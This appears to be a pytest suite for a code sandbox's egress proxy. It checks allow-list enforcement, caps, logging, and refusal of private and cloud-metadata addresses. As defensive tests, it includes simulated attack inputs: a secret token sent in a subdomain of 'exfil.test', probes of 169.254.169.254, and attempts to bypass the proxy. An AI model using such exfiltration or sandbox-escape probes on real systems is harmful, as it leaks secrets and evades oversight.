"""Egress through the host-side proxy, attacked from real runs: the real sandbox, real HTTP and
HTTPS servers on 127.0.0.1 outside it, names pinned to them by the executor's resolver map.
Nothing here leaves the machine: the only names resolved by DNS are `localhost`."""

from __future__ import annotations

import json
from datetime import datetime
from typing import Any

import pytest

import execbox
from tests.network.servers import Upstream

# What the runs import: urllib reads HTTP_PROXY/HTTPS_PROXY from the environment by itself.
FETCH = """
import json, ssl, urllib.request, urllib.error
CTX = ssl.create_default_context(cafile="/workspace/ca.pem")
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=10, context=CTX) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode()]
    except OSError as e:
        return [None, repr(e)]
"""


def run(
    ex: execbox.Executor, upstream: Upstream, code: str, network: list[str], **kw: object
) -> execbox.RunResult:
    upstream.clear()
    return ex.run(
        FETCH + code,
        network=network,
        profile="net",
        files={"ca.pem": upstream.ca_pem},
        **kw,  # type: ignore[arg-type]
    )


def printed(result: execbox.RunResult) -> Any:
    assert result.status == "ok", result
    return json.loads(result.stdout)


def test_allowed_host_is_reached_over_http_through_the_proxy(
    net: execbox.Executor, upstream: Upstream
) -> None:
    port = upstream.http_port
    result = run(
        net,
        upstream,
        f"print(json.dumps(fetch('http://api.test:{port}/hello')))",
        [f"api.test:{port}"],
    )
    assert printed(result) == [200, f"hello host=api.test:{port}"]
    assert upstream.seen() == [("GET", "/hello", f"api.test:{port}")]
    [entry] = result.network_log
    assert (entry.method, entry.host, entry.port) == ("GET", "api.test", port)
    assert (entry.verdict, entry.rule, entry.entry) == (
        "allowed",
        "network.allow",
        f"api.test:{port}",
    )
    assert entry.address == "127.0.0.1"


def test_allowed_host_is_reached_over_https_by_connect(
    net: execbox.Executor, upstream: Upstream
) -> None:
    port = upstream.https_port
    result = run(
        net,
        upstream,
        f"print(json.dumps(fetch('https://api.test:{port}/hello')))",
        [f"api.test:{port}"],
    )
    assert printed(result) == [200, f"hello host=api.test:{port}"]
    [entry] = result.network_log
    assert (entry.method, entry.verdict, entry.address) == ("CONNECT", "allowed", "127.0.0.1")
    # The TLS handshake went through the tunnel: both ways carried more than the request.
    assert entry.bytes_up > 200 and entry.bytes_down > 500


@pytest.mark.parametrize(
    ("url", "network", "rule"),
    [
        # on the pin map, so only the list can refuse it
        ("http://other.test:{http}/hello", ["api.test:{http}"], "network.host"),
        ("http://127.0.0.1:{http}/hello", ["api.test:{http}"], "network.host"),
        ("https://api.test:{https}/hello", ["api.test:{http}"], "network.port"),
        ("http://api.test/hello", ["api.test:{http}"], "network.port"),
        # a block names no address exactly: private and metadata addresses stay refused
        ("http://10.1.2.3/", ["10.0.0.0/8"], "network.address"),
        ("http://169.254.169.254/latest/meta-data/", ["169.254.0.0/16"], "network.address"),
        ("http://[fd00:ec2::254]/", ["fd00::/8"], "network.address"),
        # resolved by the proxy (from /etc/hosts) to loopback, and not pinned
        ("http://localhost:{http}/hello", ["localhost:{http}"], "network.address"),
    ],
)
def test_destination_outside_the_policy_is_refused(
    net: execbox.Executor, upstream: Upstream, url: str, network: list[str], rule: str
) -> None:
    ports = {"http": upstream.http_port, "https": upstream.https_port}
    url = url.format(**ports)
    result = run(
        net, upstream, f"print(json.dumps(fetch({url!r})))", [n.format(**ports) for n in network]
    )
    status, body = printed(result)
    [entry] = result.network_log
    assert (entry.verdict, entry.rule) == ("denied", rule)
    if url.startswith("https"):  # a refused CONNECT: urllib says so without the body
        assert status is None and "Tunnel connection failed: 403" in body
    else:
        assert status == 403 and entry.message and entry.message in body
    assert upstream.seen() == []
    assert entry.bytes_up == entry.bytes_down == 0


def test_redirect_to_a_denied_host_is_refused_at_the_follow_up(
    net: execbox.Executor, upstream: Upstream
) -> None:
    port = upstream.http_port
    to = f"http://denied.test:{port}/hello"
    result = run(
        net,
        upstream,
        f"print(json.dumps(fetch('http://api.test:{port}/redirect?to={to}')))",
        [f"api.test:{port}"],
    )
    status, _ = printed(result)
    assert status == 403
    assert [path for _, path, _ in upstream.seen()] == [f"/redirect?to={to}"]
    first, second = result.network_log
    assert (first.host, first.verdict) == ("api.test", "allowed")
    assert (second.host, second.verdict, second.rule) == ("denied.test", "denied", "network.host")


def test_connections_around_the_proxy_have_no_route(
    net: execbox.Executor, upstream: Upstream
) -> None:
    """A run with network still has only loopback: a direct TCP connection to the host's
    server, to any other address, direct UDP and DNS, and a client told to ignore the proxy
    all fail, and the servers see nothing."""
    port = upstream.http_port
    code = f"""
import errno, socket
out = {{}}
def attempt(name, f):
    try:
        f()
        out[name] = "connected"
    except OSError as e:
        out[name] = errno.errorcode.get(e.errno, str(e))
attempt("tcp_host_loopback", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3))
attempt("tcp_elsewhere", lambda: socket.create_connection(("192.0.2.1", 80), timeout=3))
attempt("tcp6_elsewhere", lambda: socket.create_connection(("2001:db8::1", 80), timeout=3))
attempt("udp_dns", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("192.0.2.53", 53)))
attempt("resolve", lambda: socket.getaddrinfo("api.test", 80))
no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
try:
    no_proxy.open("http://api.test:{port}/hello", timeout=3)
    out["no_proxy"] = "connected"
except OSError as e:
    out["no_proxy"] = type(e).__name__
print(json.dumps(out))
"""
    out = printed(run(net, upstream, code, [f"api.test:{port}"]))
    assert out == {
        "tcp_host_loopback": "ECONNREFUSED",
        "tcp_elsewhere": "ENETUNREACH",
        "tcp6_elsewhere": "ENETUNREACH",
        "udp_dns": "ENETUNREACH",
        "resolve": out["resolve"],  # checked below: any resolver error
        "no_proxy": "URLError",
    }
    assert out["resolve"] != "connected"
    assert upstream.seen() == []


def test_byte_cap_ends_the_run_with_network_limit(
    net: execbox.Executor, upstream: Upstream
) -> None:
    port = upstream.http_port
    cap = 200_000
    result = run(
        net,
        upstream,
        f"print(fetch('http://api.test:{port}/big?n=5000000')[0])\nimport time; time.sleep(10)",
        [f"api.test:{port}"],
        limits={"network_bytes": cap, "timeout_s": 20},
    )
    assert result.status == "network_limit", result
    assert result.error is not None and "limits.network_bytes" in result.error.message
    assert result.metrics.wall_ms < 10_000  # ended by the proxy, not by the sleep or timeout
    [entry] = result.network_log
    assert entry.bytes_up + entry.bytes_down <= cap


def test_connection_cap_ends_the_run_with_network_limit(
    net: execbox.Executor, upstream: Upstream
) -> None:
    port = upstream.http_port
    code = f"for _ in range(3): print(fetch('http://api.test:{port}/hello')[0], flush=True)"
    result = run(net, upstream, code, [f"api.test:{port}"], limits={"network_connections": 2})
    assert result.status == "network_limit", result
    assert result.error is not None and "limits.network_connections" in result.error.message
    assert result.stdout.split()[:2] == ["200", "200"]
    assert len(upstream.seen()) == 2
    assert [e.verdict for e in result.network_log] == ["allowed", "allowed", "denied"]


def test_log_entries_are_complete_in_the_result_and_the_record(
    net: execbox.Executor, upstream: Upstream
) -> None:
    port, tls = upstream.http_port, upstream.https_port
    network = [f"api.test:{port}", f"api.test:{tls}"]
    code = (
        f"print(fetch('http://api.test:{port}/hello')[0], fetch('https://api.test:{tls}/hello')[0],"
        f" fetch('http://other.test:{port}/')[0])"
    )
    result = run(net, upstream, code, network)
    assert result.stdout.split() == ["200", "200", "403"]
    log = result.network_log
    assert [(e.method, e.host, e.port, e.verdict) for e in log] == [
        ("GET", "api.test", port, "allowed"),
        ("CONNECT", "api.test", tls, "allowed"),
        ("GET", "other.test", port, "denied"),
    ]
    for entry in log:
        assert datetime.fromisoformat(entry.time).tzinfo is not None
        assert entry.duration_ms is not None and entry.duration_ms >= 0
        assert entry.rule.startswith("network.")
    for entry in log[:2]:
        assert entry.address == "127.0.0.1" and entry.entry in network
        assert entry.bytes_up > 0 and entry.bytes_down > 0
    record = net.store.get(result.run_id)
    assert record is not None
    assert record.result.network_log == log
    assert record.network == network


def test_listener_and_proxy_variables_exist_only_for_runs_with_network(
    net: execbox.Executor, upstream: Upstream
) -> None:
    """The proxy's listener is in the network run's namespace (its loopback lists it), and
    gone for the next run of the same slot, which sees no proxy variables either; the network
    run made no connection, so the slot keeps its namespace for the next run."""
    code = """
import os
listening = []
for name in ("/proc/net/tcp", "/proc/net/tcp6"):
    with open(name) as f:
        listening += [line.split()[1] for line in f.readlines()[1:] if line.split()[3] == "0A"]
print(json.dumps([listening, sorted(k for k in os.environ if "proxy" in k.lower())]))
"""
    listening, names = printed(run(net, upstream, code, ["api.test"]))
    assert len(listening) == 1 and listening[0].startswith("0100007F:")
    assert "HTTPS_PROXY" in names and "http_proxy" in names
    after = net.run(FETCH + code, files={"ca.pem": upstream.ca_pem})
    assert printed(after) == [[], []]
    assert after.network_log == []


def test_secrets_the_code_puts_in_a_host_are_redacted_from_the_log(
    net: execbox.Executor, upstream: Upstream
) -> None:
    secret = "s3cr3t-token-4242"
    port = upstream.http_port
    result = run(
        net,
        upstream,
        f"print(fetch('http://{secret}.exfil.test:{port}/')[0])",
        [f"api.test:{port}"],
        secrets=[secret],
    )
    [entry] = result.network_log
    assert entry.verdict == "denied"
    record = net.store.get(result.run_id)
    assert record is not None
    for shown in (result.model_dump_json(), record.model_dump_json()):
        assert secret not in shown
    assert "[REDACTED" in entry.host


def test_concurrent_runs_each_get_their_own_proxy_and_log(
    net: execbox.Executor, upstream: Upstream
) -> None:
    """Runs at once (the pool makes more slots) each reach only their own entries, and each
    log holds only its own run's requests."""
    from concurrent.futures import ThreadPoolExecutor

    port = upstream.http_port

    def one(i: int) -> execbox.RunResult:
        code = f"print(fetch('http://api.test:{port}/hello?run={i}')[0])"
        return net.run(
            FETCH + code,
            network=[f"api.test:{port}"] if i % 2 == 0 else [f"other.test:{port}"],
            profile="net",
            files={"ca.pem": upstream.ca_pem},
        )

    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(one, range(4)))
    for i, result in enumerate(results):
        assert result.stdout.strip() == ("200" if i % 2 == 0 else "403"), result
        [entry] = result.network_log
        assert entry.verdict == ("allowed" if i % 2 == 0 else "denied")
        assert entry.host == "api.test"
